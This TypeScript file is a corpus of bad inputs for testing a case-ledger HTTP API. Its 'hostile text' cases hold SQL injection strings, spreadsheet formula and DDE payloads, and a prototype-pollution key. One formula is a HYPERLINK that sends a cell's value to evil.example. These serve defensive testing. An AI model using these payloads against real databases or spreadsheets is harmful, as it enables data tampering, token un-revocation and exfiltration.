/**
 * Bad-input corpus for the HTTP API: each case is one request and the outcome it must have. A refusal carries
 * its status and error code and must leave D1 untouched; an acceptance names what must be stored, once.
 * Large inputs are made when the case runs, never committed. Runs in test/worker/corpus.test.ts.
 */

export type Route = "push" | "units" | "tokens" | "weights";
export type Caller = "clerkA" | "coordinator" | "admin" | "assessor";

export interface Refused {
  status: 400 | 401 | 403 | 404 | 413 | 422;
  code: string;
  /** For 422: a zod issue path the error must name. */
  path?: string;
}

export interface Accepted {
  status: 200;
  /** caseNo as stored → fields of the stored row (normalised CaseRow) that must read exactly so. */
  stored: Record<string, Record<string, unknown>>;
}

export interface ApiCase {
  name: string;
  /** Default: a push chunk by clerk A of 山腰街道. */
  route?: Route;
  as?: Caller;
  /** The raw body; a function so that big bodies exist only while their case runs. */
  body?: () => string | Uint8Array;
  /** A body of this many bytes, streamed without Content-Length (the server must stop reading early). */
  streamBytes?: number;
  headers?: Record<string, string>;
  expect: Refused | Accepted;
}

export const UNIT_A = "山腰街道";

/** Cells of a valid row as a clerk's sheet gives them. */
export function validValues(caseNo: string, over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    caseNo, receivedOn: "2026.5.26", source: "当事人申请", domain: "劳动争议", stage: "诉前", mediationType: "行政调解",
    applicant: "张三", respondent: "区人社局", accepted: "是", mediator: "李四", status: "调解中", summary: "拖欠工资",
    ...over,
  };
}

/** A chunk body of the given rows (row numbers from 2). */
export function chunk(rows: Record<string, unknown>[], over: Record<string, unknown> = {}): string {
  return JSON.stringify({ chunkIndex: 0, chunkCount: 1, wholeLedger: false, rows: rows.map((values, i) => ({ row: i + 2, values })), ...over });
}

const one = (over: Record<string, unknown>) => chunk([validValues("SY-001", over)]);
const bytes = (...b: number[]) => new Uint8Array(b);
const utf8 = (s: string) => new TextEncoder().encode(s);
const join = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

/** A one-row chunk whose "@" is replaced by raw bytes. */
const withBytes = (over: Record<string, unknown>, ...b: number[]) => {
  const [before, after] = one(over).split("@");
  return join(utf8(before), bytes(...b), utf8(after));
};

const MB = 1024 * 1024;

export const API_CASES: ApiCase[] = [
  // Malformed and truncated JSON
  { name: "truncated JSON (cut mid-string)", body: () => one({}).slice(0, 60), expect: { status: 400, code: "malformed_json" } },
  { name: "truncated JSON (cut after the last row)", body: () => one({}).slice(0, -2), expect: { status: 400, code: "malformed_json" } },
  { name: "an empty body", body: () => "", expect: { status: 400, code: "malformed_json" } },
  { name: "whitespace only", body: () => "  \n\t ", expect: { status: 400, code: "malformed_json" } },
  { name: "a trailing comma", body: () => '{"chunkIndex":0,"chunkCount":1,"rows":[],}', expect: { status: 400, code: "malformed_json" } },
  { name: "single-quoted JSON", body: () => "{'chunkIndex':0,'chunkCount':1,'rows':[]}", expect: { status: 400, code: "malformed_json" } },
  { name: "NaN as a value", body: () => '{"chunkIndex":NaN,"chunkCount":1,"rows":[]}', expect: { status: 400, code: "malformed_json" } },
  { name: "two JSON documents back to back", body: () => one({}) + one({}), expect: { status: 400, code: "malformed_json" } },
  { name: "a million nested arrays", body: () => "[".repeat(500_000) + "]".repeat(500_000), expect: { status: 422, code: "invalid_request" } },

  // Wrong types and missing fields
  { name: "JSON null", body: () => "null", expect: { status: 422, code: "invalid_request" } },
  { name: "a JSON array instead of an object", body: () => "[]", expect: { status: 422, code: "invalid_request" } },
  { name: "a bare JSON string", body: () => '"rows"', expect: { status: 422, code: "invalid_request" } },
  { name: "chunkIndex as a string", body: () => chunk([validValues("SY-001")], { chunkIndex: "0" }), expect: { status: 422, code: "invalid_request", path: "chunkIndex" } },
  { name: "rows missing", body: () => JSON.stringify({ chunkIndex: 0, chunkCount: 1 }), expect: { status: 422, code: "invalid_request", path: "rows" } },
  { name: "chunkCount missing", body: () => JSON.stringify({ chunkIndex: 0, rows: [] }), expect: { status: 422, code: "invalid_request", path: "chunkCount" } },
  { name: "rows as an object", body: () => JSON.stringify({ chunkIndex: 0, chunkCount: 1, rows: { 0: {} } }), expect: { status: 422, code: "invalid_request", path: "rows" } },
  { name: "a row without values", body: () => JSON.stringify({ chunkIndex: 0, chunkCount: 1, rows: [{ row: 2 }] }), expect: { status: 422, code: "invalid_request", path: "rows.0.values" } },
  { name: "row number 0", body: () => JSON.stringify({ chunkIndex: 0, chunkCount: 1, rows: [{ row: 0, values: validValues("SY-001") }] }), expect: { status: 422, code: "invalid_request", path: "rows.0.row" } },
  { name: "a negative chunkIndex", body: () => chunk([validValues("SY-001")], { chunkIndex: -1 }), expect: { status: 422, code: "invalid_request", path: "chunkIndex" } },
  { name: "chunkCount over the limit", body: () => chunk([validValues("SY-001")], { chunkCount: 10_001 }), expect: { status: 422, code: "invalid_request", path: "chunkCount" } },
  { name: "a number too large for a double (1e400)", body: () => one({}).replace('"chunkIndex":0', '"chunkIndex":1e400'), expect: { status: 422, code: "invalid_request", path: "chunkIndex" } },
  { name: "wholeLedger as the word yes", body: () => chunk([validValues("SY-001")], { wholeLedger: "yes" }), expect: { status: 422, code: "invalid_request", path: "wholeLedger" } },
  { name: "a cell holding an array", body: () => one({ caseNo: ["SY-001"] }), expect: { status: 422, code: "invalid_request", path: "rows.0.values.caseNo" } },
  {
    name: "a __proto__ key among the cells (ignored; nothing polluted)",
    body: () => one({}).replace('"caseNo"', '"__proto__":{"polluted":true},"caseNo"'),
    expect: { status: 200, stored: { "SY-001": { caseNo: "SY-001", applicant: "张三" } } },
  },
  { name: "an unknown locale", body: () => chunk([validValues("SY-001")], { locale: "fr" }), expect: { status: 422, code: "invalid_request", path: "locale" } },

  // Size
  { name: "a 100,000-character cell", body: () => one({ summary: "长".repeat(100_000) }), expect: { status: 422, code: "invalid_request", path: "rows.0.values.summary" } },
  {
    name: "10,000 columns in one row",
    body: () => one(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`col${i}`, "x"]))),
    expect: { status: 422, code: "invalid_request", path: "rows.0.values" },
  },
  { name: "a 100 MB body streamed without Content-Length", streamBytes: 100 * MB, expect: { status: 413, code: "payload_too_large" } },
  {
    name: "a body whose Content-Length says 100 MB",
    body: () => one({}),
    headers: { "Content-Length": String(100 * MB) },
    expect: { status: 413, code: "payload_too_large" },
  },

  // Encoding
  { name: "invalid UTF-8 (a lone continuation byte in a name)", body: () => withBytes({ applicant: "张@三" }, 0x80), expect: { status: 400, code: "malformed_json" } },
  { name: "invalid UTF-8 (an encoded surrogate ED A0 80)", body: () => withBytes({ applicant: "@" }, 0xed, 0xa0, 0x80), expect: { status: 400, code: "malformed_json" } },
  { name: "a truncated multi-byte character at the end", body: () => join(utf8(one({})), bytes(0xe5, 0xbc)), expect: { status: 400, code: "malformed_json" } },

  // Hostile text: stored as data, exactly once, never interpreted
  {
    name: "SQL metacharacters in the case number and names",
    body: () => chunk([validValues("SY-1'; DROP TABLE cases;--", { applicant: `Robert'); DELETE FROM units WHERE ('1'='1`, respondent: '"; UPDATE tokens SET revoked_at=NULL; --' })]),
    expect: { status: 200, stored: { "SY-1'; DROP TABLE cases;--": { applicant: `Robert'); DELETE FROM units WHERE ('1'='1`, respondent: '"; UPDATE tokens SET revoked_at=NULL; --' } } },
  },
  {
    name: "formula-injection strings (=HYPERLINK, @SUM, +cmd, -)",
    body: () => chunk([validValues("SY-F1", {
      applicant: '=HYPERLINK("http://evil.example/?d="&B2,"点此查看")', summary: "@SUM(1+1)*cmd|' /C calc'!A0",
      respondent: "+cmd|' /C calc'!A0", notes: "-2+3+cmd|' /C notepad'!A0",
    })]),
    expect: { status: 200, stored: { "SY-F1": {
      applicant: '=HYPERLINK("http://evil.example/?d="&B2,"点此查看")', summary: "@SUM(1+1)*cmd|' /C calc'!A0",
      respondent: "+cmd|' /C calc'!A0", notes: "-2+3+cmd|' /C notepad'!A0",
    } } },
  },
  {
    name: "control characters inside a name",
    body: () => chunk([validValues("SY-C1", { applicant: "张\u0000三\u0007\u001b[31m", summary: "拖欠\r\n工资\t三个月" })]),
    expect: { status: 200, stored: { "SY-C1": { applicant: "张三[31m", summary: "拖欠 工资 三个月" } } },
  },
  {
    name: "zero-width characters in the case number",
    body: () => chunk([validValues("\uFEFFSY-\u200B002\u200D")]),
    expect: { status: 200, stored: { "SY-002": { caseNo: "SY-002" } } },
  },
  {
    name: "emoji and astral characters in names",
    body: () => chunk([validValues("SY-E1", { applicant: "😀张三🙏", respondent: "𠮷野家餐饮公司" })]),
    expect: { status: 200, stored: { "SY-E1": { applicant: "😀张三🙏", respondent: "𠮷野家餐饮公司" } } },
  },
  {
    name: "a byte-order mark before the JSON",
    body: () => join(bytes(0xef, 0xbb, 0xbf), utf8(chunk([validValues("SY-B1")]))),
    expect: { status: 200, stored: { "SY-B1": { caseNo: "SY-B1" } } },
  },
  {
    name: "right-to-left override and marks in the case number",
    body: () => chunk([validValues("SY-\u202E300\u202C\u200F")]),
    expect: { status: 200, stored: { "SY-300": { caseNo: "SY-300" } } },
  },
  {
    name: "a lone surrogate escape in a name",
    body: () => one({ applicant: "王@" }).replace("@", "\\ud800"),
    expect: { status: 200, stored: { "SY-001": { applicant: "王" } } },
  },

  // Unit names that try to reach outside the caller's scope
  { name: "SQL metacharacters in the unit (clerk)", body: () => chunk([validValues("SY-001")], { unit: "山腰街道' OR '1'='1" }), expect: { status: 403, code: "forbidden" } },
  { name: "SQL metacharacters in the unit (coordinator)", as: "coordinator", body: () => chunk([validValues("SY-001")], { unit: "' OR 1=1 --" }), expect: { status: 404, code: "not_found" } },

  // Other routes with JSON bodies
  { name: "POST /api/units with truncated JSON", route: "units", as: "admin", body: () => '{"name":"新', expect: { status: 400, code: "malformed_json" } },
  { name: "POST /api/units with wrong types", route: "units", as: "admin", body: () => JSON.stringify({ name: 5, kind: "村" }), expect: { status: 422, code: "invalid_request", path: "name" } },
  { name: "POST /api/units with a 100 MB streamed body", route: "units", as: "admin", streamBytes: 100 * MB, expect: { status: 413, code: "payload_too_large" } },
  { name: "POST /api/tokens without a role", route: "tokens", as: "admin", body: () => JSON.stringify({ unit: UNIT_A }), expect: { status: 422, code: "invalid_request", path: "role" } },
  { name: "POST /api/tokens with invalid UTF-8", route: "tokens", as: "admin", body: () => join(utf8('{"role":"clerk","unit":"'), bytes(0xff, 0xfe), utf8('"}')), expect: { status: 404, code: "not_found" } },
  { name: "PUT /api/rankings/weights with a truncated body", route: "weights", as: "assessor", body: () => '{"weights":{"acceptRate":', expect: { status: 400, code: "malformed_json" } },
];
